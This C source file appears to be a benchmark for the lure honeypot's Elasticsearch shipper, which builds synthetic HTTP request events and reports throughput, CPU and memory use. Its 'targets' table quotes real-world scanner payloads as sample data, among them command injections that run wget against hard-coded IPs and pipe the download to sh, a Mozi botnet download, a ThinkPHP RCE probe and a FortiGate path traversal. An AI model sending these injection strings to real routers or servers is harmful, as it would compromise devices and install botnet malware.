/* shipbench.c: drive lure's Elasticsearch shipper (src/ship.c) alone, linked
 * with lure's own objects, and measure what shipping costs.
 *
 *   shipbench [options] URL       ship N synthetic http request events
 *   shipbench [options] -w FILE   write the same kind of N lines to FILE
 *
 * Events are built with lure's event API (event_begin/event_str/...
 * event_commit into the outbox) in chunks, as the emulators would make them,
 * and interleaved with the shipper loop (ship_tick, ship_deadline,
 * ship_pollfd, poll, ship_handle), as loop.c does. The CPU spent building
 * events is measured around each chunk (CLOCK_PROCESS_CPUTIME_ID) and
 * subtracted, so "ship CPU" is the shipper alone: reading the outbox (each
 * line's event.id and @timestamp come with it), building the bulk body,
 * HTTP, TLS, response parsing, acking.
 *
 * Prints one JSON object on stdout. Exit 0 when every event was acknowledged
 * (ship_stats().shipped == N, nothing dropped or dead-lettered), 1 otherwise.
 * Peak memory is VmHWM of /proc/self/status (ru_maxrss is printed too, but
 * Linux carries it over exec() from the parent).
 *
 * Options: -n N events (1000000)  -i INDEX (lure-bench-%Y.%m.%d)
 *   -b batch_events  -B batch_bytes  -f flush_ms  -o outbox bytes
 *   -a CA file (https)  -c events per generation chunk (1000)
 *   -s seed  -T seconds (give up after; 1800) */
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <time.h>
#include <unistd.h>

#include "config.h"
#include "event.h"
#include "lure.h"
#include "outbox.h"
#include "ship.h"

/* --- synthetic events -------------------------------------------------- */

static uint64_t rng = 0x2545f4914f6cdd1dull;

static uint64_t
rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}

#define PICK(a) (a[rnd() % LURE_ARRAY_LEN(a)])

/* What scanners ask a honeypot's web port for (method, target). */
static const char *const targets[][2] = {
        {"GET", "/"},
        {"GET", "/.env"},
        {"GET", "/wp-login.php"},
        {"GET", "/HNAP1/"},
        {"POST", "/boaform/admin/formLogin"},
        {"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&"
                "country=$(id%3E%60wget+-O-+http%3A%2F%2F45.95.147.12%2Ft%7Csh%"
                "60)"},
        {"GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://103.77.241.34/jaws;"
                "sh+/tmp/jaws"},
        {"GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
        {"POST", "/GponForm/diag_Form?images/"},
        {"GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&"
                "cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+"
                "/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"},
        {"GET", "/actuator/health"},
        {"GET", "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f"},
        {"GET", "/solr/admin/info/system?wt=json"},
        {"GET", "/index.php?s=/Index/\\think\\app/invokefunction&function="
                "call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21"},
        {"GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/"
                "sslvpn_websession"},
        {"GET", "/favicon.ico"},
        {"GET", "/"},
        {"GET", "/"},
        {"GET", "/robots.txt"},
        {"GET", "/.git/config"},
        {"GET", "/admin"},
        {"GET", "/login"},
        {"HEAD", "/"},
        {"GET", "/manager/html"},
};

static const char *const agents[] = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 zgrab/0.x",
        "curl/7.88.1",
        "Go-http-client/1.1",
        "Hello, world",
        "curl/7.88.1",
        "python-requests/2.31.0",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; "
        "+https://about.censys.io/)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like "
        "Gecko) Chrome/81.0.4044.129 Safari/537.36",
        "Go-http-client/1.1",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
};

static const char *const accepts[] = {
        "*/*",
        "text/html,application/xhtml+xml,*/*;q=0.8",
        "application/json, text/plain, */*",
};

static const int statuses[] = {200, 200, 404, 404, 404, 401, 400};

static void
make_event(uint64_t i)
{
	struct event *e = event_begin("request", "http");
	const char *const *t = targets[rnd() % LURE_ARRAY_LEN(targets)];
	const char *ua = PICK(agents), *q;
	uint64_t r = rnd();
	char sip[48], session[48], path[512], headers[1024];
	int n;

	/* source addresses spread over the whole v4 space, a few v6 */
	if (r % 16 == 0)
		snprintf(sip, sizeof sip, "2a0%u:%x:%x::%x",
		        (unsigned)(r >> 4 & 7), (unsigned)(r >> 8 & 0xffff),
		        (unsigned)(r >> 24 & 0xffff),
		        (unsigned)(r >> 40 & 0xffff));
	else
		snprintf(sip, sizeof sip, "%u.%u.%u.%u",
		        (unsigned)(r >> 8 & 223) + 1, (unsigned)(r >> 16 & 255),
		        (unsigned)(r >> 24 & 255),
		        (unsigned)(r >> 32 & 254) + 1);
	event_str(e, "source.ip", sip);
	event_int(e, "source.port", 1024 + (int64_t)(r >> 40 & 0xffff) % 64511);
	event_str(e, "destination.ip", "192.0.2.10");
	event_int(e, "destination.port", 80);
	event_str(e, "network.transport", "tcp");
	snprintf(session, sizeof session, "%s-%llu", event_identity()->boot_id,
	        (unsigned long long)i / 2 + 1);
	event_str(e, "lure.session", session);
	event_bytes(e, "http.request.method", t[0], strlen(t[0]),
	        EVENT_CAP_DEFAULT);
	event_bytes(e, "url.original", t[1], strlen(t[1]), EVENT_CAP_PAYLOAD);
	q = strchr(t[1], '?');
	n = snprintf(path, sizeof path, "%.*s",
	        (int)(q ? (size_t)(q - t[1]) : strlen(t[1])), t[1]);
	event_bytes(e, "url.path", path, (size_t)n, EVENT_CAP_DEFAULT);
	if (q)
		event_bytes(e, "url.query", q + 1, strlen(q + 1),
		        EVENT_CAP_DEFAULT);
	event_str(e, "http.version", "1.1");
	event_bytes(e, "url.domain", "192.0.2.10", 10, EVENT_CAP_DEFAULT);
	event_bytes(
	        e, "user_agent.original", ua, strlen(ua), EVENT_CAP_DEFAULT);
	event_int(e, "http.response.status_code", PICK(statuses));
	/* the raw header block, CR LF and all, as the emulator logs it */
	n = snprintf(headers, sizeof headers,
	        "Host: 192.0.2.10:80\r\nUser-Agent: %s\r\nAccept: %s\r\n"
	        "%sConnection: %s\r\n",
	        ua, PICK(accepts), r & 1 ? "Accept-Encoding: gzip\r\n" : "",
	        r & 2 ? "close" : "keep-alive");
	event_bytes(
	        e, "lure.http.headers", headers, (size_t)n, EVENT_CAP_PAYLOAD);
	if (t[0][0] == 'P') {
		static const char body[] = "username=admin&psd=Feefifofum";
		event_int(
		        e, "http.request.body.bytes", (int64_t)sizeof body - 1);
		event_bytes(e, "http.request.body.content", body,
		        sizeof body - 1, EVENT_CAP_PAYLOAD);
	}
	event_commit(e);
}

/* --- measuring ---------------------------------------------------------- */

static double
mono(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static double
pcpu(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static double
tv(struct timeval t)
{
	return (double)t.tv_sec + t.tv_usec / 1e6;
}

/* Peak RSS of this process image (kB): VmHWM, as for rsyslogd. Not
 * ru_maxrss: Linux carries that over exec() from the parent's memory (a
 * Python parent would be counted). */
static long
vm_hwm_kib(void)
{
	char l[256];
	long v = -1;
	FILE *f = fopen("/proc/self/status", "r");

	while (f && fgets(l, sizeof l, f))
		if (strncmp(l, "VmHWM:", 6) == 0)
			v = strtol(l + 6, NULL, 10);
	if (f)
		fclose(f);
	return v;
}

static void
usage(void)
{
	fprintf(stderr, "usage: shipbench [-n N] [-i INDEX] [-b batch_events] "
	                "[-B batch_bytes] [-f flush_ms] [-o outbox_bytes] "
	                "[-a ca_file] [-c chunk] [-s seed] [-T seconds] "
	                "URL | -w FILE\n");
	exit(2);
}

static unsigned long
num(const char *s)
{
	char *e;
	unsigned long v = strtoul(s, &e, 10);
	if (e == s || *e)
		usage();
	return v;
}

/* Write n lines to path through a second outbox consumer. */
static int
write_lines(const char *path, uint64_t n, unsigned chunk)
{
	FILE *f = fopen(path, "w");
	int c = outbox_consumer();
	uint64_t made = 0, bytes = 0;

	if (!f) {
		fprintf(stderr, "shipbench: %s: %s\n", path, strerror(errno));
		return 1;
	}
	while (made < n) {
		const char *p;
		size_t k;
		for (unsigned j = 0; j < chunk && made < n; j++)
			make_event(made++);
		while ((k = outbox_peek(c, &p)) > 0) {
			if (fwrite(p, 1, k, f) != k) {
				fprintf(stderr, "shipbench: %s: write failed\n",
				        path);
				return 1;
			}
			bytes += k;
			outbox_ack(c, k);
		}
	}
	if (fclose(f) != 0)
		return 1;
	printf("{\"written\":%llu,\"bytes\":%llu,\"avg_line\":%.1f}\n",
	        (unsigned long long)n, (unsigned long long)bytes,
	        n ? (double)bytes / (double)n : 0.0);
	return 0;
}

int
main(int argc, char **argv)
{
	static struct event_identity id = {
	        "bench-sensor", "bench-host", "generic", "5eed5eed5eed5eed"};
	const char *url = NULL, *out = NULL, *index = "lure-bench-%Y.%m.%d";
	const char *ca = NULL;
	uint64_t n = 1000000, made = 0;
	unsigned chunk = 1000, timeout_s = 1800;
	long batch_events = -1, batch_bytes = -1, flush_ms = -1;
	size_t outbox = 0;
	double gen_cpu = 0, t0, t_end, c0;
	struct rusage ru0, ru1;
	struct ship_stats ss;
	struct outbox_stats os;
	char err[256];
	int opt;

	while ((opt = getopt(argc, argv, "n:i:b:B:f:o:a:c:s:T:w:")) != -1) {
		switch (opt) {
		case 'n': n = num(optarg); break;
		case 'i': index = optarg; break;
		case 'b': batch_events = (long)num(optarg); break;
		case 'B': batch_bytes = (long)num(optarg); break;
		case 'f': flush_ms = (long)num(optarg); break;
		case 'o': outbox = num(optarg); break;
		case 'a': ca = optarg; break;
		case 'c': chunk = (unsigned)num(optarg); break;
		case 's': rng = num(optarg) | 1; break;
		case 'T': timeout_s = (unsigned)num(optarg); break;
		case 'w': out = optarg; break;
		default: usage();
		}
	}
	if (optind < argc)
		url = argv[optind++];
	if (optind != argc || (!url == !out) || !chunk)
		usage();

	config_defaults(&config);
	if (outbox)
		config.outbox_bytes = (unsigned)outbox;
	if (outbox_init(config.outbox_bytes) < 0) {
		fprintf(stderr, "shipbench: out of memory for the outbox\n");
		return 2;
	}
	event_setup(&id);
	if (out)
		return write_lines(out, n, chunk);

	if (strlen(url) >= sizeof config.es.url ||
	        strlen(index) >= sizeof config.es.index ||
	        (ca && strlen(ca) >= sizeof config.es.ca_file))
		usage();
	strcpy(config.es.url, url);
	strcpy(config.es.index, index);
	if (ca)
		strcpy(config.es.ca_file, ca);
	if (batch_events > 0)
		config.es.batch_events = (unsigned)batch_events;
	if (batch_bytes > 0)
		config.es.batch_bytes = (unsigned)batch_bytes;
	if (flush_ms > 0)
		config.es.flush_ms = (unsigned)flush_ms;
	if (ship_setup(&config) != 0)
		return 2;

	getrusage(RUSAGE_SELF, &ru0);
	t0 = mono();
	for (;;) {
		struct pollfd pfd;
		int64_t d, wait;

		/* make events while the outbox has room for whole lines, a
		 * chunk at a time, timing the CPU it takes */
		outbox_stats(&os);
		if (made < n && os.size - os.used >= EVENT_LINE_MAX) {
			c0 = pcpu();
			for (unsigned j = 0; j < chunk && made < n; j++) {
				outbox_stats(&os);
				if (os.size - os.used < EVENT_LINE_MAX)
					break;
				make_event(made++);
			}
			gen_cpu += pcpu() - c0;
		}
		ship_tick();
		d = ship_deadline();
		ship_stats(&ss);
		if (ss.shipped + ss.dead_lettered + ss.dropped >= n)
			break;
		if (mono() - t0 > timeout_s) {
			fprintf(stderr,
			        "shipbench: gave up after %u s: state %s, "
			        "error \"%s\"\n",
			        timeout_s, ss.state, ss.last_error);
			break;
		}
		ship_pollfd(&pfd);
		outbox_stats(&os);
		if (made < n && os.size - os.used >= EVENT_LINE_MAX)
			wait = 0; /* more to make: just look */
		else
			wait = d ? LURE_MAX(d - lure_now(), 0) : 1000;
		if (poll(&pfd, pfd.fd >= 0, (int)LURE_MIN(wait, 1000)) > 0)
			ship_handle(pfd.revents);
	}
	t_end = mono();
	getrusage(RUSAGE_SELF, &ru1);
	ship_stats(&ss);
	outbox_stats(&os);
	snprintf(err, sizeof err, "%s", ss.last_error);
	for (char *q = err; *q; q++) /* keep the output valid JSON */
		if (*q == '"' || *q == '\\' || (unsigned char)*q < 32)
			*q = '\'';
	{
		double wall = t_end - t0;
		double user = tv(ru1.ru_utime) - tv(ru0.ru_utime);
		double sys = tv(ru1.ru_stime) - tv(ru0.ru_stime);
		double cpu = user + sys - gen_cpu;
		int ok = ss.shipped == n && ss.dead_lettered == 0 &&
		         ss.dropped == 0 && os.dropped == 0;

		printf("{\"events\":%llu,\"shipped\":%llu,\"dead_lettered\":%"
		       "llu,"
		       "\"retried\":%llu,\"requests\":%llu,\"ship_dropped\":%"
		       "llu,"
		       "\"outbox_dropped\":%llu,\"outbox_size\":%zu,"
		       "\"pushed\":%llu,\"wall_s\":%.3f,\"events_per_s\":%.0f,"
		       "\"cpu_user_s\":%.3f,\"cpu_sys_s\":%.3f,"
		       "\"gen_cpu_s\":%.3f,\"ship_cpu_s\":%.3f,"
		       "\"ship_cpu_us_per_event\":%.3f,\"vm_hwm_kib\":%ld,"
		       "\"ru_maxrss_kib\":%ld,"
		       "\"batch_events\":%u,\"batch_bytes\":%u,\"flush_ms\":%u,"
		       "\"state\":\"%s\",\"last_error\":\"%s\",\"ok\":%s}\n",
		        (unsigned long long)n, (unsigned long long)ss.shipped,
		        (unsigned long long)ss.dead_lettered,
		        (unsigned long long)ss.retried,
		        (unsigned long long)ss.requests,
		        (unsigned long long)ss.dropped,
		        (unsigned long long)os.dropped, os.size,
		        (unsigned long long)os.pushed, wall,
		        wall > 0 ? (double)ss.shipped / wall : 0.0, user, sys,
		        gen_cpu, cpu,
		        ss.shipped ? cpu * 1e6 / (double)ss.shipped : 0,
		        vm_hwm_kib(), ru1.ru_maxrss, config.es.batch_events,
		        config.es.batch_bytes, config.es.flush_ms, ss.state,
		        err, ok ? "true" : "false");
		fflush(stdout);
		ship_drain(1000);
		return ok ? 0 : 1;
	}
}
